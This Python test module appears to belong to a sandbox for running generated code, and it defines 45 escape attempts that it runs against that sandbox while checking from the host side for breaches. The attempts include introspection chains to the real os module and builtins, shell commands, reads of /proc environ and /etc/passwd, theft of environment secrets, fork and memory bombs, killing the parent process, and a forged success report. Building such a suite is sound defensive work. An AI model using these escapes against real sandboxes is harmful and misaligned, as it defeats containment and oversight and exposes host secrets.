"""The sandbox escape suite: code that tries to get out, run *without* the static gate.

Every attempt is a function ``attack(path, port, secret)``: ``path`` is a file on the
host it should try to create, ``port`` a TCP port on the host's loopback it should try
to reach, ``secret`` the name of an environment variable the host holds. It returns
``"ESCAPED: ..."`` if it got out. :func:`run_escape_suite` runs each one in the sandbox
and checks, from the host's side, that nothing happened: no file, no connection, no
secret in the output, no report claiming success, the host still working.
"""

from __future__ import annotations

import os
import secrets
import socket
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from compiled_ai.runtime.sandbox import SandboxLimits, run_in_sandbox

# Reaching the real `os` module from nothing but a tuple: the classic introspection
# chain to object.__subclasses__(), then a function's __globals__.
_ROUTE = '''
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise LookupError("no route to os")


def _real_builtins():
    return _os_globals()["__builtins__"]


def _import(name):
    return _real_builtins()["__import__"](name)
'''


@dataclass(frozen=True)
class Escape:
    id: str
    title: str
    body: str  # the body of attack(path, port, secret)

    @property
    def source(self) -> str:
        indented = "\n".join("    " + line for line in self.body.strip("\n").splitlines())
        return f"{_ROUTE}\n\ndef attack(path, port, secret):\n{indented}\n"


def _e(id_: str, title: str, body: str) -> Escape:
    return Escape(id_, title, body)


ESCAPES: tuple[Escape, ...] = (
    # introspection and builtins
    _e("esc-01", "object.__subclasses__ chain to os.system",
       "g = _os_globals()\ng['system']('touch ' + path)\nreturn 'ESCAPED: os.system ran'"),
    _e("esc-02", "catch_warnings to the real builtins' __import__",
       "for c in ().__class__.__base__.__subclasses__():\n"
       "    if c.__name__ == 'catch_warnings':\n"
       "        b = c()._module.__builtins__\n"
       "        b['__import__']('os').system('touch ' + path)\n"
       "        return 'ESCAPED: via catch_warnings'\nreturn 'no route'"),
    _e("esc-03", "function __globals__ to __builtins__ and open()",
       "b = _real_builtins()\nb['open'](path, 'w').write('x')\nreturn 'ESCAPED: wrote file'"),
    _e("esc-04", "__builtins__ name lookup for open",
       "return __builtins__['open'](path, 'w')"),
    _e("esc-05", "eval through the real builtins",
       "return _real_builtins()['eval'](\"__import__('os').system('touch " + "' + path)\")"),
    _e("esc-06", "exec of new code through the real builtins",
       "_real_builtins()['exec']('import os; os.system(\"id\")')\nreturn 'ESCAPED: exec ran'"),
    _e("esc-07", "code object construction",
       "f = attack.__code__.replace(co_consts=(None,))\nreturn 'ESCAPED: ' + str(f)"),
    _e("esc-08", "format-string attribute walk to globals",
       "return ('{0.__globals__}').format(attack)[:200]"),
    # frames
    _e("esc-09", "traceback frame walk to the runner's locals (report nonce)",
       "try:\n    1 / 0\nexcept ZeroDivisionError as exc:\n    frame = exc.__traceback__.tb_frame\n"
       "while frame.f_back is not None:\n    frame = frame.f_back\n"
       "return 'ESCAPED: saw ' + str(sorted(frame.f_locals))[:200]"),
    _e("esc-10", "generator frame globals",
       "gen = (x for x in [1])\nreturn 'ESCAPED: ' + str(gen.gi_frame.f_globals.keys())[:200]"),
    _e("esc-11", "sys._getframe through a reached sys module",
       "sys = _os_globals()['sys']\nreturn 'ESCAPED: ' + str(sys._getframe(0).f_globals)[:100]"),
    _e("esc-12", "gc.get_objects to find loaded modules",
       "gc = _import('gc')\nreturn 'ESCAPED: ' + str(len(gc.get_objects()))"),
    # native code
    _e("esc-13", "import ctypes",
       "ctypes = _import('ctypes')\nreturn 'ESCAPED: ' + str(ctypes.CDLL(None))"),
    _e("esc-14", "ctypes from sys.modules",
       "mods = _os_globals()['sys'].modules\nc = mods.get('ctypes') or mods.get('_ctypes')\n"
       "if c is None:\n    raise LookupError('ctypes not loaded')\nreturn 'ESCAPED: ' + str(c)"),
    _e("esc-15", "mmap of anonymous memory",
       "mmap = _import('mmap')\nreturn 'ESCAPED: ' + str(mmap.mmap(-1, 4096))"),
    # processes and signals
    _e("esc-16", "os.fork",
       "pid = _os_globals()['fork']()\nreturn 'ESCAPED: forked ' + str(pid)"),
    _e("esc-17", "fork bomb loop",
       "fork = _os_globals()['fork']\nwhile True:\n    fork()"),
    _e("esc-18", "subprocess.Popen",
       "sp = _import('subprocess')\nsp.Popen(['touch', path])\nreturn 'ESCAPED: Popen'"),
    _e("esc-19", "os.posix_spawn",
       "g = _os_globals()\ng['posix_spawn']('/usr/bin/touch', ['touch', path], {})\n"
       "return 'ESCAPED: posix_spawn'"),
    _e("esc-20", "os.execv replaces the sandbox process",
       "_os_globals()['execv']('/bin/sh', ['sh', '-c', 'touch ' + path])"),
    _e("esc-21", "kill the parent process",
       "g = _os_globals()\ng['kill'](g['getppid'](), 9)\nreturn 'ESCAPED: signalled parent'"),
    _e("esc-22", "install a signal handler",
       "signal = _import('signal')\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
       "return 'ESCAPED: handler set'"),
    _e("esc-23", "raise the resource limits again",
       "resource = _import('resource')\n"
       "resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6))\nreturn 'ESCAPED: rlimit raised'"),
    # resources
    _e("esc-24", "memory bomb (one huge allocation)", "return len(bytearray(10**11))"),
    _e("esc-25", "memory bomb (growing list)",
       "chunks = []\nwhile True:\n    chunks.append('x' * 10**7)"),
    _e("esc-26", "infinite CPU loop", "n = 0\nwhile True:\n    n += 1"),
    _e("esc-27", "sleep past the wall clock",
       "_import('time').sleep(3600)\nreturn 'ESCAPED: outlived the timeout'"),
    _e("esc-28", "huge output", "return 'x' * 200_000_000"),
    _e("esc-29", "deep recursion",
       "def down(n):\n    return down(n + 1) + 1\nreturn down(0)"),
    _e("esc-30", "exhaust threads",
       "thread = _import('_thread')\nfor _ in range(10000):\n"
       "    thread.start_new_thread(lambda: None, ())\nreturn 'ESCAPED: threads'"),
    # secrets and files
    _e("esc-31", "read the secret from os.environ",
       "value = _os_globals()['environ'].get(secret)\n"
       "return 'ESCAPED: ' + value if value else 'not visible'"),
    _e("esc-32", "read /proc/self/environ",
       "return _real_builtins()['open']('/proc/self/environ').read()"),
    _e("esc-33", "read the parent's /proc/<ppid>/environ",
       "g = _os_globals()\n"
       "return _real_builtins()['open'](f\"/proc/{g['getppid']()}/environ\").read()"),
    _e("esc-34", "write a file with os.open/os.write",
       "g = _os_globals()\nfd = g['open'](path, 0o101)\ng['write'](fd, b'x')\n"
       "return 'ESCAPED: os.write'"),
    _e("esc-35", "list the host's root directory",
       "return 'ESCAPED: ' + str(_os_globals()['listdir']('/'))"),
    _e("esc-36", "read /etc/passwd through linecache",
       "lc = _import('linecache')\nline = lc.getline('/etc/passwd', 1)\n"
       "return 'ESCAPED: ' + line if line else 'nothing read'"),
    _e("esc-37", "forge the report on the real stdout and exit",
       "g = _os_globals()\n"
       "g['write'](1, b'{\"results\": [{\"ok\": true, \"outputs\": [\"42\"]}]}')\n"
       "g['_exit'](0)"),
    _e("esc-38", "end the sandbox with SystemExit", "raise SystemExit(0)"),
    # network
    _e("esc-39", "TCP connection to the host's loopback",
       "socket = _import('socket')\ns = socket.create_connection(('127.0.0.1', port), timeout=2)\n"
       "s.sendall(b'escaped')\nreturn 'ESCAPED: connected'"),
    _e("esc-40", "DNS lookup", "socket = _import('socket')\n"
       "return 'ESCAPED: ' + str(socket.getaddrinfo('example.com', 80))"),
    _e("esc-41", "UDP datagram to the host",
       "socket = _import('socket')\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
       "s.sendto(b'x', ('127.0.0.1', port))\nreturn 'ESCAPED: udp sent'"),
    _e("esc-42", "urllib request", "urllib = _import('urllib.request')\n"
       "return 'ESCAPED: ' + str(urllib.urlopen('http://127.0.0.1:%d/' % port))"),
    # import machinery
    _e("esc-43", "import a forbidden module by the guarded import",
       "import os\nreturn 'ESCAPED: ' + os.name"),
    _e("esc-44", "reach a forbidden module through an allowed one",
       "import typing\nreturn 'ESCAPED: ' + str(typing.sys.modules['os'])"),
    _e("esc-45", "importlib machinery",
       "il = _import('importlib')\nreturn 'ESCAPED: ' + str(il.import_module('pty'))"),
)


@dataclass(frozen=True)
class EscapeOutcome:
    id: str
    title: str
    contained: bool
    evidence: str  # what stopped it, or what got out
    seconds: float


def run_escape_suite(escapes: tuple[Escape, ...] = ESCAPES,
                     limits: SandboxLimits | None = None,
                     advance: Callable[[], object] | None = None) -> list[EscapeOutcome]:
    """Run every escape attempt in the sandbox and judge it from the host's side;
    ``advance`` is called after each attempt (a progress bar)."""
    limits = limits or SandboxLimits(cpu_seconds=2, wall_seconds=6)
    secret_name = "COMPILED_AI_ESCAPE_SECRET"
    secret_value = "escape-secret-" + secrets.token_hex(8)
    previous = os.environ.get(secret_name)
    os.environ[secret_name] = secret_value
    outcomes = []
    try:
        with tempfile.TemporaryDirectory(prefix="compiled-ai-escape-") as tmp, \
                _Listener() as listener:
            for escape in escapes:
                target = Path(tmp) / f"{escape.id}.created"
                started = time.perf_counter()
                run = run_in_sandbox(escape.source, "attack", [
                    {"path": str(target), "port": listener.port, "secret": secret_name}],
                    limits=limits)
                seconds = time.perf_counter() - started
                case = run.cases[0]
                text = " ".join(case.outputs) + " " + (case.error or "")
                breaches = []
                if target.exists():
                    breaches.append("created a file on the host")
                if listener.hits:
                    breaches.append("reached the host's network")
                    listener.hits.clear()
                if secret_value in text:
                    breaches.append("read the host's secret")
                if case.ok and "ESCAPED" in text:
                    breaches.append("reported success: " + text.strip()[:160])
                if seconds > limits.wall_seconds + 5:
                    breaches.append("outlived the wall-clock limit")
                evidence = "; ".join(breaches) if breaches else (
                    run.failure or case.error or "returned without effect: " + text[:120])
                outcomes.append(EscapeOutcome(escape.id, escape.title, not breaches,
                                              evidence.strip(), round(seconds, 3)))
                if advance is not None:
                    advance()
    finally:
        if previous is None:
            os.environ.pop(secret_name, None)
        else:
            os.environ[secret_name] = previous
    return outcomes


class _Listener:
    """TCP and UDP sockets on the host's loopback that record anything reaching them."""

    def __enter__(self) -> _Listener:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.hits: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()
        return self

    def _watch(self) -> None:
        while not self._stop.is_set():
            for server, kind in ((self.tcp, "tcp"), (self.udp, "udp")):
                try:
                    if kind == "tcp":
                        connection, _ = server.accept()
                        connection.close()
                    else:
                        server.recvfrom(1024)
                    self.hits.append(kind)
                except (TimeoutError, OSError):
                    continue

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.tcp.close()
        self.udp.close()
